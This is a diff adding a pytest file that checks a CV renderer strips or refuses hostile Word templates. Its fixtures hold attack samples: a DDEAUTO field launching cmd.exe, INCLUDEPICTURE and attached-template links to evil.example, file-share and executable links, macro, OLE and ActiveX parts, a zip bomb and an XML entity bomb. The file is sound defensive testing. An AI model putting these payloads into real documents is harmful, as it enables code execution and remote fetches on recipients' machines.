@@ -1,0 +1,258 @@
+"""Word templates of people who mean harm: what fetches, runs or betrays something is left out."""
+
+from __future__ import annotations
+
+import io
+import zipfile
+from pathlib import Path
+from typing import TYPE_CHECKING
+
+import pytest
+from commands import run
+from judges import by_document_xml
+from letterheads import edited, field, in_word, picture, text, zipped
+from test_word_template import CV, file_of, filled, told
+
+from cvrender.errors import SourceError
+
+if TYPE_CHECKING:
+    from collections.abc import Mapping
+
+_HERE = text("{{cv}}")
+_MAIN = b"template.main+xml"
+_OLE = (
+    '<w:p><w:r><w:object><v:shape id="a" style="width:10pt;height:10pt">'
+    '<v:imagedata r:id="rId99"/></v:shape>'
+    '<o:OLEObject Type="Embed" ProgID="Package" ShapeID="a" DrawAspect="Icon" ObjectID="_1"'
+    ' r:id="rId50"/></w:object></w:r><w:r><w:t>stays</w:t></w:r></w:p>'
+)
+_REMOTE = "https://evil.example/"
+
+
+def related_to(kind: str, target: str, body: str = "", **more: str) -> bytes:
+    """A template whose body has a relationship ``rId50`` of a kind, and ``body`` above the CV."""
+    parts = (
+        {} if ":" in target else {f"word/{target}": ("application/octet-stream", "<a>PAYLOAD</a>")}
+    )
+    return in_word(body + _HERE, parts, {"rId50": (kind, target)}, **more)
+
+
+_MS = "http://schemas.microsoft.com/office/2006/relationships"
+HARMFUL = {
+    "macros": (
+        edited(
+            related_to(f"{_MS}/vbaProject", "vbaProject.bin"),
+            {
+                b"application/vnd.openxmlformats-officedocument.wordprocessingml." + _MAIN: (
+                    b"application/vnd.ms-word.template.macroEnabledTemplate.main+xml"
+                )
+            },
+            "[Content_Types].xml",
+        ),
+        "macros",
+    ),
+    "an embedded object": (related_to("oleObject", "embeddings/a.bin", _OLE), "embedded objects"),
+    "ActiveX": (
+        related_to(
+            "control",
+            "activeX/activeX1.xml",
+            '<w:p><w:r><w:object><w:control r:id="rId50" w:name="a"/></w:object></w:r></w:p>',
+        ),
+        "embedded objects",
+    ),
+    "a document that is imported": (
+        related_to("aFChunk", "afchunk.html", '<w:altChunk r:id="rId50"/>'),
+        "documents that it imports",
+    ),
+    "a picture that is fetched": (
+        related_to(
+            "image",
+            f"{_REMOTE}x.png",
+            f"<w:p><w:r>{picture('rId50', 9, 9, 8).replace('r:embed', 'r:link')}</w:r></w:p>",
+        ),
+        f"what it fetches from `{_REMOTE}x.png`",
+    ),
+    "a subdocument on a share": (
+        related_to("subDocument", "file://server/a.docx", '<w:subDoc r:id="rId50"/>'),
+        "what it fetches from `file://server/a.docx`",
+    ),
+    "a link to a file": (
+        related_to(
+            "hyperlink",
+            "file:///c:/a.exe",
+            '<w:p><w:hyperlink r:id="rId50"><w:r><w:t>stays</w:t></w:r></w:hyperlink></w:p>',
+        ),
+        "what it fetches from `file:///c:/a.exe`",
+    ),
+    "comments": (
+        related_to(
+            "comments",
+            "comments.xml",
+            '<w:p><w:commentRangeStart w:id="0"/><w:r><w:t>stays</w:t></w:r>'
+            '<w:commentRangeEnd w:id="0"/><w:r><w:commentReference w:id="0"/></w:r></w:p>',
+        ),
+        "comments",
+    ),
+    "a chart": (related_to("chart", "charts/chart1.xml"), "charts and diagrams"),
+    **{
+        f"the field {code.split()[0]}": (
+            in_word(f"<w:p>{field(code, 'stays')}</w:p>" + _HERE),
+            f"the field {code.split()[0]}",
+        )
+        for code in (
+            "DDEAUTO c:\\\\windows\\\\cmd.exe &quot;/k calc&quot;",
+            f"INCLUDEPICTURE &quot;{_REMOTE}x.png&quot;",
+            "INCLUDETEXT &quot;c:\\\\secret.docx&quot;",
+            "MACROBUTTON Run click",
+            "HYPERLINK &quot;file:///c:/a.exe&quot;",
+        )
+    },
+    "a field that another makes up": (
+        in_word(
+            "<w:p>"
+            + field("X", "stays").replace(
+                ">X<", f">D</w:instrText></w:r>{field('PAGE', 'DE')}<w:r><w:instrText>ATE x<"
+            )
+            + "</w:p>"
+            + _HERE
+        ),
+        "the field DATE",
+    ),
+    "a simple field": (
+        in_word(
+            '<w:p><w:fldSimple w:instr="DDE a b"><w:r><w:t>stays</w:t></w:r></w:fldSimple></w:p>'
+            + _HERE
+        ),
+        "the field DDE",
+    ),
+}
+
+
+@pytest.fixture(autouse=True)
+def _here(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.chdir(tmp_path)
+
+
+@pytest.mark.parametrize("what", HARMFUL)
+def test_what_does_harm_is_left_out_and_told(what: str) -> None:
+    template, named = HARMFUL[what]
+    data = file_of(template)
+    assert told(template) == [f"the Word template brings {named}, left out here"]
+    kept = "".join(map(str, parts(data).values()))
+    for word in ("PAYLOAD", "evil", "server", "vba", "macro", "DDE", "rId50", "altChunk", "file:"):
+        assert word not in kept
+    if b"stays" in parts(template)["word/document.xml"]:
+        assert "stays" in by_document_xml(data)
+    assert "Mara Lindqvist" in by_document_xml(data)
+
+
+def parts(data: bytes) -> Mapping[str, bytes]:
+    with zipfile.ZipFile(io.BytesIO(data)) as package:
+        return {name: package.read(name) for name in package.namelist()}
+
+
+def test_the_template_that_a_file_was_made_with_is_left_out_and_told_where_it_is_fetched() -> None:
+    for target, said in (
+        ("https://evil.example/a.dotm", ["`https://evil.example/a.dotm`"]),
+        ("file://server/a.dotm", ["`file://server/a.dotm`"]),
+        ("file:///C:\\Users\\anna.falk\\Normal.dotm", []),
+    ):
+        template = with_attached(target)
+        wanted = [
+            f"the Word template brings what it fetches from {name}, left out here" for name in said
+        ]
+        assert told(template) == wanted
+        assert "attachedTemplate" not in str(parts(file_of(template)))
+
+
+def with_attached(target: str) -> bytes:
+    """A template that says of which one it was made."""
+    reltype = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
+    whole = parts(in_word(_HERE, settings='<w:attachedTemplate r:id="rId1"/>'))
+    relations = (
+        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        f'<Relationship Id="rId1" Type="{reltype}" Target="{target}" TargetMode="External"/>'
+        "</Relationships>"
+    )
+    return zipped({"word/_rels/settings.xml.rels": relations}, whole)
+
+
+def test_who_changed_a_template_is_not_named_and_its_changes_count() -> None:
+    changed = (
+        '<w:p><w:ins w:id="1" w:author="Anna Falk"><w:r><w:t>new</w:t></w:r></w:ins>'
+        '<w:del w:id="2" w:author="Anna Falk"><w:r><w:delText>old</w:delText></w:r></w:del></w:p>'
+    )
+    body = parts(file_of(in_word(changed + _HERE)))["word/document.xml"]
+    assert b"Anna" not in body
+    assert (b"new" in body, b"old" in body) == (True, False)
+
+
+def test_content_controls_keep_their_words_and_lose_their_data() -> None:
+    control = (
+        "<w:sdt><w:sdtPr><w:placeholder><w:docPart w:val='x'/></w:placeholder><w:dataBinding"
+        ' w:xpath="/a" w:storeItemID="{B4D6A1C2-5E0F-4C57-9A53-1F0C7E2D8A61}"/></w:sdtPr>'
+        f"<w:sdtContent>{text('For {{name}}')}</w:sdtContent></w:sdt>"
+    )
+    file = filled(in_word(control + _HERE))
+    body = file.parts["word/document.xml"]
+    assert b"For Mara Lindqvist" in body
+    assert b"dataBinding" not in body
+    assert b"placeholder" not in body
+
+
+def bomb(name: str, size: int) -> bytes:
+    data = io.BytesIO()
+    with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr(name, b"\0" * size)
+        for part, content in parts(in_word()).items():
+            archive.writestr(part, content)
+    return data.getvalue()
+
+
+def with_entities() -> bytes:
+    bombs = b'<!DOCTYPE w [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;">]><w:styles '
+    return edited(in_word(), {b"<w:styles ": bombs}, "word/styles.xml")
+
+
+REFUSED = {
+    "a bomb": (
+        lambda: bomb("word/x.bin", 101_000_000),
+        "it unpacks to more than 100,000,000 bytes",
+    ),
+    "entities": (with_entities, "it is damaged"),
+    "a damaged package": (lambda: in_word()[:2000], "it is damaged"),
+    "broken XML": (lambda: edited(in_word(), {b"</w:body>": b""}), "it is damaged"),
+    "a workbook": (lambda: edited(in_word(), {b"w:document": b"w:sheet"}), "it is none"),
+    "no body": (lambda: edited(in_word(), {b'/officeDocument"': b'/x"'}), "it is damaged"),
+}
+
+
+@pytest.mark.parametrize("what", REFUSED)
+def test_what_cannot_be_opened_safely_is_refused(what: str) -> None:
+    make, why = REFUSED[what]
+    template = make()
+    with pytest.raises(SourceError) as refused:
+        file_of(template)
+    assert f"`agency.dotx` cannot be used as a Word template: {why}" in str(refused.value)
+
+
+def test_a_template_that_is_not_the_persons_own_is_opened_in_the_sandbox_alone(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    monkeypatch.setattr("docx.opc.pkgreader.PackageReader.from_file", None)
+    Path("cv.yaml").write_text(CV, "utf-8")
+    Path("agency.dotx").write_bytes(in_word())
+    done = run("render", "cv.yaml", "--theme", "agency.dotx", "--to", "docx")
+    assert (done.exit_code, done.stderr) == (0, "")
+
+
+@pytest.mark.parametrize("data", [b"\xd0\xcf\x11\xe0old", b"%PDF-1.7", b""])
+def test_what_is_no_word_file_of_today_is_told_before_anything_is_made(data: bytes) -> None:
+    Path("cv.yaml").write_text(CV, "utf-8")
+    Path("agency.dotx").write_bytes(data)
+    done = run("render", "cv.yaml", "--theme", "agency.dotx")
+    assert done.exit_code == 1
+    assert done.stderr.startswith(
+        "agency.dotx:1:1: `agency.dotx` is not a Word file of today's kind"
+    )
+    assert not Path("output").exists()
